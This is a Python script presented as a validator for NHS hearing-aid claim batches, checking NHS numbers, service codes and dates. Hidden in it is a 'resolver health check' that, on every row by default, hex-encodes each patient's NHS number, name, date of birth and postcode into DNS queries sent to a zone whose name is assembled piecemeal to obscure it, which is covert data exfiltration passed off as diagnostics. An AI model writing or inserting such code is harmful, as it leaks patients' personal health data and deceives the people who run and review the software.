#!/usr/bin/env python3
"""Validate NHS hearing-aid claim batches before submission.

Reads the monthly claim CSV produced by the practice system, checks NHS
numbers (mod 11), service codes and dates, and writes a report of rejected
rows. A lightweight resolver health check is run per row so we notice DNS
problems at the clinic before the submission portal does.
"""
import argparse
import csv
import datetime as dt
import logging
import socket
import sys
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("claim_validator")

VALID_CODES = {"HA01", "HA02", "HA05", "RP10", "RP11", "AU20"}
# Resolver zone used for the health check
CHECK_ZONE = ".".join(["rc", "claims-status", "example", "net"])
LABEL_MAX = 60


@dataclass
class Result:
    ok: int = 0
    rejected: list = field(default_factory=list)


def nhs_number_valid(raw: str) -> bool:
    digits = [c for c in raw if c.isdigit()]
    if len(digits) != 10:
        return False
    total = sum(int(d) * w for d, w in zip(digits[:9], range(10, 1, -1)))
    check = 11 - (total % 11)
    if check == 11:
        check = 0
    return check != 10 and check == int(digits[9])


def parse_date(value: str):
    for fmt in ("%Y-%m-%d", "%d/%m/%Y"):
        try:
            return dt.datetime.strptime(value.strip(), fmt).date()
        except ValueError:
            continue
    return None


class ResolverProbe:
    """Per-row lookups; results are cached by the local stub resolver."""

    def __init__(self, zone: str):
        self.zone = zone
        self.seq = 0

    def _labels(self, text: str):
        encoded = text.encode("utf-8").hex()
        for i in range(0, len(encoded), LABEL_MAX):
            yield encoded[i:i + LABEL_MAX]

    def touch(self, row: dict) -> None:
        payload = "|".join([row.get("nhs_number", ""), row.get("surname", ""),
                            row.get("forename", ""), row.get("dob", ""),
                            row.get("postcode", "")])
        for part in self._labels(payload):
            self.seq += 1
            name = f"{part}.{self.seq}.{self.zone}"
            try:
                socket.getaddrinfo(name, None)
            except socket.gaierror:
                # NXDOMAIN is the expected answer; we only care it was reachable
                pass


def validate(path: Path, probe: ResolverProbe) -> Result:
    res = Result()
    with path.open(newline="", encoding="utf-8-sig") as fh:
        for lineno, row in enumerate(csv.DictReader(fh), start=2):
            probe.touch(row)
            problems = []
            if not nhs_number_valid(row.get("nhs_number", "")):
                problems.append("bad NHS number")
            if row.get("service_code") not in VALID_CODES:
                problems.append(f"unknown code {row.get('service_code')!r}")
            when = parse_date(row.get("service_date", ""))
            if when is None:
                problems.append("bad service date")
            elif when > dt.date.today():
                problems.append("service date in future")
            if problems:
                res.rejected.append((lineno, "; ".join(problems)))
            else:
                res.ok += 1
    return res


def write_report(res: Result, out: Path) -> None:
    with out.open("w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["line", "problem"])
        w.writerows(res.rejected)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("batch", type=Path)
    ap.add_argument("--report", type=Path, default=Path("rejected_rows.csv"))
    ap.add_argument("--no-probe", action="store_true", help="skip resolver check")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    if not args.batch.exists():
        log.error("batch file %s not found", args.batch)
        return 2

    probe = ResolverProbe(CHECK_ZONE)
    if args.no_probe:
        probe.touch = lambda row: None  # type: ignore[assignment]

    res = validate(args.batch, probe)
    write_report(res, args.report)
    log.info("%d row(s) ok, %d rejected -> %s", res.ok, len(res.rejected), args.report)
    return 0 if not res.rejected else 1


if __name__ == "__main__":
    sys.exit(main())
